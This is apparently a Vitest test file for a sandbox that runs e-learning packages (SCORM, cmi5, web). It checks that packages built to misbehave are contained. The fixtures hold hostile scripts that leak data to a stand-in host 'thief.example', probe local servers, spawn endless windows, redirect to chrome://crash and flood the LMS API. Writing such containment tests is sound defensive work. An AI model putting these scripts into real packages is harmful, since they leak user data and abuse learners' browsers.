import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { foreignPackages } from '../fixtures/packages/foreign.ts';
import { calls12, page, runnable12, runnableCmi5, runnableWeb } from '../fixtures/packages/runnable.ts';
import { type Ran, runPackages, told } from '../support/run-packages.ts';

/** Something else that runs on this computer, and counts who comes. */
const visitors: string[] = [];
const neighbour = createServer((request, response) => {
  visitors.push(request.url ?? '');
  response.setHeader('Access-Control-Allow-Origin', '*').end('secret');
}).on('upgrade', (request, socket) => {
  visitors.push(request.url ?? '');
  socket.destroy();
});
await new Promise<void>((started) => neighbour.listen(0, '127.0.0.1', started));
const address = `127.0.0.1:${(neighbour.address() as AddressInfo).port}`;
afterAll(() => void neighbour.close());

const script = (code: string) => page('<h1>A</h1>', `<script>${code}</script>`);

describe('a package that means harm', () => {
  let ran: Ran;
  let web: Ran;
  beforeAll(async () => {
    web = await runPackages(
      {
        reaches: runnableWeb(
          script(`fetch('http://${address}/fetch', { mode: 'no-cors' }).catch(function () {});
            fetch('http://localhost:${address.split(':')[1]}/name', { mode: 'no-cors' }).catch(function () {});
            new WebSocket('ws://${address}/socket'); navigator.sendBeacon('http://${address}/beacon', 'x');
            window.open('http://${address}/window'); new Image().src = 'https://thief.example/?all=1';`),
        ),
        asks: runnableWeb(
          script(`alert('hello'); confirm('sure?');
            navigator.permissions.query({ name: 'geolocation' }).then(function (one) { console.error('place ' + one.state); });
            addEventListener('beforeunload', function (event) { event.preventDefault(); });`),
        ),
        opens: runnableWeb(
          script('setInterval(function () { window.open("index.html?" + Math.random()); }, 1);'),
        ),
        throws: runnableWeb(
          page(
            '<h1>A</h1>',
            [
              'throw null',
              'throw 7',
              'throw { a: 1 }',
              'Promise.reject()',
              'Promise.reject(Symbol())',
              'throw Object.create(null)',
              'console.error(Object.create(null), Symbol())',
            ]
              .map((code) => `<script>${code}</script>`)
              .join(''),
          ),
        ),
        leaves: runnableWeb(script("setTimeout(function () { location = 'chrome://crash'; }, 50);")),
      },
      { web: true },
    );
    ran = await runPackages({
      lies: runnable12({
        ...calls12,
        start: `${calls12.start}
          ['null', '[null, 1, {"method": {}}]', '{', '{"cmi": 1}'].forEach(function (body) {
            ['calls/0', 'commit/0', 'calls/9', 'launch/9'].forEach(function (path) { fetch('/lms/' + path, { method: 'POST', body: body }); });
          });`,
      }),
      talks: runnable12({
        ...calls12,
        start: `${calls12.start} for (var n = 0; n < 30000; n++) api.LMSGetValue('cmi.core.entry');`,
      }),
      babbles: runnableCmi5({
        resume:
          "await ask('POST', 'statements', [null, 7, {}, [[]]]); await ask('PUT', 'activities/state?agent=7', 1);",
      }),
    });
  }, 180_000);

  it('reaches no other server, not even on this computer', () => {
    const { found, runs } = web.get('reaches') ?? {};
    expect(visitors).toEqual([]);
    const codes = new Set(found?.map(({ code }) => code));
    expect([...codes]).toEqual(['RUN-OUTSIDE']);
    const hosts = told(found).flatMap((one) => /^warning RUN-OUTSIDE .*?“([^”]*)”/.exec(one)?.[1] ?? []);
    expect(hosts.sort()).toEqual(['127.0.0.1', 'localhost', 'thief.example']);
    expect(runs?.[0]?.outside).toContain('https://thief.example/?all=1');
    expect(runs?.[0]?.outside).toContain(`ws://${address}/socket`);
  });

  it('gets no permission, and cannot hold its window open by questions', () => {
    expect(told(web.get('asks')?.found)).toEqual([expect.stringContaining('“place denied”')]);
    expect(web.get('asks')?.runs[0]?.seconds).toBeLessThan(10);
  });

  it('gets an end, however many windows it opens', () => {
    expect(told(web.get('opens')?.found)).toEqual([expect.stringContaining('opened windows without end')]);
  });

  it('gets no more time than all of it may have together', async () => {
    const files = foreignPackages['SCORM 1.2 of several SCOs and organizations']?.() ?? [];
    const slow = await runPackages({ slow: files }, { seconds: 0.01 });
    const found = slow.get('slow')?.found.filter(({ code }) => code === 'RUN-NOT-RUN');
    expect(told(found)).toEqual([expect.stringContaining('2 more of its 3 parts')]);
  }, 60_000);

  it('may throw what it likes; two objects look alike', () => {
    expect(web.get('throws')?.found.map(({ code }) => code)).toEqual(
      Array.from({ length: 6 }, () => 'RUN-SCRIPT-ERROR'),
    );
  });

  it('does not get to the pages of the browser itself', () => {
    expect(told(web.get('leaves')?.found)).toEqual([expect.stringContaining('Not allowed to load')]);
  });

  it('may lie to the LMS without stopping it', () => {
    expect(ran.get('lies')?.runs[0]?.status).toBe('incomplete');
  });

  it('may talk without end: what is listed is not without end', () => {
    expect(ran.get('talks')?.runs[0]?.calls).toHaveLength(500);
  });

  it('may send to a record store what is no statement', () => {
    const codes = new Set(ran.get('babbles')?.found.map(({ code }) => code));
    expect([...codes]).toEqual(['RUN-CALL-ERROR', 'RUN-STANDARD']);
    expect(ran.get('babbles')?.runs[0]?.statements?.length).toBe(4);
  });
});
